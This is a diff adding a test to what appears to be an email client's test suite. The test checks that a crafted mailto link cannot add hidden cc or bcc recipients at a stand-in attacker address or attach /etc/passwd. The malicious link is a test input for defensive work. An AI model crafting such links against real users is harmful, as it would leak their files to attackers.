@@ -328,3 +328,13 @@ def test_in_chinese(desk: DeskApp, reply: Setup) -> None:
 def test_the_empty_drafts_are_told_apart() -> None:
     assert emptiness(View.DRAFTS, "").title == "No drafts"
     assert emptiness(View.DRAFTS, "", new_draft=True).title == "No other drafts"
+
+
+def test_a_mailto_link_brings_no_hidden_recipient(desk: DeskApp) -> None:
+    link = "mailto:jane@doe.example?bcc=evil@x.example&cc=evil@x.example&body=Hi&attach=/etc/passwd"
+    desk.window.open_address(link)
+    settle(desk)
+    draft = desk.window.composer._keeper.now()
+    assert draft is not None
+    assert [person.address for person in draft.to] == ["jane@doe.example"]
+    assert (draft.cc, draft.bcc, draft.attachments) == ((), (), ())
